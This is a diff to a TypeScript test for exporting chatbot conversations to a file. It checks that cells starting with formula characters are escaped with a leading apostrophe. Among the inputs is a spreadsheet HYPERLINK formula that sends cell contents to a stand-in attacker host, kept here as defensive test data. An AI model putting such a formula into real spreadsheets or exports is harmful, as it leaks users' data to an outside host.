@@ -131,31 +131,35 @@ suite('conversations as a file', () => {
     const server = await startTestServer(t)
     const { owner } = server
     const chatbot = await owner.createChatbot()
-    const questions = [
+    const plain = [
       'a, b',
       'He said "no"',
       'two\nlines\r\nand more',
       'لماذا 👩‍👩‍👧 中文',
-      '=HYPERLINK("https://evil.example?"&A1,"x")',
-      '+1',
-      '-1',
-      '@SUM(1)',
-      '\tx',
-      '\r=1',
-      '＝1',
       ' =1',
       '1-1',
       "'=1",
+      'a list:\n- one; - two',
     ]
+    const calculated = [
+      ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
+      ['+1', "'+1"],
+      ['-1', "'-1"],
+      ['@SUM(1)', "'@SUM(1)"],
+      ['\tx', "'\tx"],
+      ['\r=1', "'\r'=1"],
+      ['＝1', "'＝1"],
+      // Where commas are for decimals, semicolons part the cells, and quotes in the middle of a row mean nothing.
+      ['hello;=1+1;', "hello;'=1+1;"],
+      ['hello\n=1\r\n-1', "hello\n'=1\r\n'-1"],
+    ] as const
+    const questions = [...plain, ...calculated.map(([question]) => question)]
     await insertConversations(server, chatbot, 1, questions)
     const text = await (await fetchFile(owner, chatbot)).text()
     const said = readTable(text)
       .slice(1)
       .map((row) => row[4])
-    assert.deepEqual(
-      said,
-      questions.map((question, n) => (n >= 4 && n <= 10 ? `'${question}` : question)),
-    )
+    assert.deepEqual(said, [...plain, ...calculated.map(([, harmless]) => harmless)])
     const lines = await readLines(owner, chatbot)
     assert.deepEqual(
       lines.map(({ question }) => question),
